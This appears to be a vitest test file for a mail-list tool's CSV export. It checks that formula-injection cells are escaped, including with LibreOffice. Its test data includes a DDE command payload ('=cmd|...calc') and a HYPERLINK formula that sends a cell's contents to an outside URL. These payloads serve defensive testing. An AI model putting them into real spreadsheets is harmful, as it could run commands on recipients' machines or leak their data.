import { execFile } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { neutralize } from '@mailsift/csv/formula'
import { fromBlob, openList } from '@mailsift/intake/list'
import { createRecordReader } from '@mailsift/intake/records'
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, onTestFinished, test } from 'vitest'
import { excelCell, excelSeparatorOf } from '../src/excel.ts'
import { layOut } from '../src/layout.ts'
import { findProgram } from './find-program.ts'

test.each([
  ["=cmd|'/C calc'!A0", `"'=cmd|'/C calc'!A0"`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', `"'\t'=1"`],
  ['two\n=lines', `"'two\n'=lines"`],
  ['a;=1+1;b', `"a;'=1+1;b"`],
  ['a,"=1+1"', `"a,""'=1+1"""`],
  ['Ann, -5', '"Ann, -5"'],
  ['＝1', "'＝1"],
  ['\u200b=1', "'\u200b=1"],
  ['a;b', '"a;b"'],
  ['a,b', '"a,b"'],
  ['-12.50', '-12.50'],
  ['-1.234,56', '"-1.234,56"'],
  ['+4930123456', '+4930123456'],
  ['ann.lee@contoso.com', 'ann.lee@contoso.com'],
  ['', ''],
])('in a file for a spreadsheet %j is written %s', (text, written) => expect(excelCell(text)).toBe(written))

test.each([
  ['en-US', ','],
  ['en-GB', ','],
  ['ja-JP', ','],
  ['de-DE', ';'],
  ['fr-FR', ';'],
  ['pt-BR', ';'],
] as const)('a spreadsheet in %s splits at %s', (locale, separator) => {
  expect(excelSeparatorOf(locale)).toBe(separator)
})

/** As a list has them, and as a spreadsheet shows them. */
const NASTY = new Map([
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  [
    '=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")',
    `'=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")`,
  ],
  [' =1+1', "' =1+1"],
  ['\t=1+1', "'\t'=1+1"],
  ['two\n=1+1', "'two\n'=1+1"],
  ['two\n=1+1,b', "'two\n'=1+1,b"],
  ['＝1+1', "'＝1+1"],
  ['a;=1+1', "a;'=1+1"],
  ['a;=1+1;b', "a;'=1+1;b"],
  ['a,=1+1', "a,'=1+1"],
  ['a,=1+1,b', "a,'=1+1,b"],
  ['";=1+1', `";'=1+1`],
  ["'=1+1", "'=1+1"],
])

async function written(excelSeparator: ',' | ';' | undefined): Promise<string> {
  const rows = [...NASTY.keys()].map((cell) => `ann.lee@contoso.com\t"${cell.replaceAll('"', '""')}"\tlast\n`)
  const list = await openList(fromBlob(new Blob([`email\tnote\tend\n${rows.join('')}`])))
  const { head, row } = layOut(list, excelSeparator)
  let text = `\ufeff${head.whole}${head.end}`
  for await (const batch of list.records([]))
    for (const record of batch) text += Object.values(row(record, true)).join('')
  return text
}

test.each([',', ';'] as const)('split at %s, every cell is in its column', async (separator) => {
  const reader = createRecordReader({ separator, columns: 'all', width: 3 })
  const [head, ...rows] = [...reader.push((await written(separator)).slice(1)), ...reader.end()]
  expect(head!.cells).toEqual(['email', 'note', 'end'])
  expect(rows.map(({ cells }) => cells)).toEqual(
    [...NASTY.values()].map((cell) => ['ann.lee@contoso.com', cell, 'last']),
  )
})

test('whichever separator a program splits at, no part of a text runs', () => {
  const text = fc.string({ unit: fc.constantFrom(...'=+-@＝,;\t|"\r\n 1a\u00a0') })
  fc.assert(
    fc.property(text, (text) => {
      for (const [at, part] of `email;${excelCell(text)},end`.split(/[,;\t|\r\n]/).entries()) {
        // The cell's own quote is read as one; programs differ in what they do with others.
        const shown = part.replace(at === 1 ? /^"/ : /^"+/, '')
        if (!/^\s*[+-]?\d+(?:\.\d+)*\s*"*$/.test(shown)) expect(neutralize(shown)).toBe(shown)
      }
    }),
  )
})

const soffice = findProgram('soffice')

describe.skipIf(!soffice)(`in LibreOffice${soffice ? '' : ' (skipped: it is not installed)'}`, () => {
  test('split at a comma or a semicolon, columns are columns and nothing runs, also at the wrong one; as it was sent, cells would run', {
    timeout: 240_000,
  }, async () => {
    const folder = await mkdtemp(join(tmpdir(), 'mailsift-calc-'))
    onTestFinished(() => rm(folder, { recursive: true, force: true }))
    const files = [
      { name: 'comma', separator: ',', text: await written(',') },
      { name: 'semicolon', separator: ';', text: await written(';') },
      { name: 'comma-as-semicolon', separator: ';', text: await written(',') },
      { name: 'semicolon-as-comma', separator: ',', text: await written(';') },
      { name: 'raw', separator: '\t', text: await written(undefined) },
    ]
    for (const { name, separator, text } of files) {
      await writeFile(join(folder, `${name}.csv`), text)
      // Field separator, quote, UTF-8, from line 1, numbers detected, formulas evaluated: as a person opens it.
      const filter = `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,-1,true`
      await promisify(execFile)(
        soffice!,
        [
          `-env:UserInstallation=file://${join(folder, 'profile')}`,
          ...['--headless', '--norestore', `--infilter=${filter}`, '--convert-to', 'xlsx', '--outdir', folder],
          join(folder, `${name}.csv`),
        ],
        { timeout: 100_000 },
      )
    }
    const formulas = (name: string) =>
      strFromU8(unzipSync(readFileSync(join(folder, `${name}.xlsx`)))['xl/worksheets/sheet1.xml']!).match(/<f[ >]/g)
    for (const name of ['comma', 'semicolon']) {
      expect(formulas(name)).toBe(null)
      const list = await openList(fromBlob(new Blob([readFileSync(join(folder, `${name}.xlsx`))])))
      const cells: (string | undefined)[][] = []
      for await (const batch of list.records([0, 1, 2])) cells.push(...batch.map((record) => record.cells))
      expect(list.names).toEqual(['email', 'note', 'end'])
      expect(cells).toEqual([...NASTY.values()].map((cell) => ['ann.lee@contoso.com', cell, 'last']))
    }
    for (const name of ['comma-as-semicolon', 'semicolon-as-comma']) expect(formulas(name)).toBe(null)
    expect(formulas('raw')).not.toBe(null)
  })
})
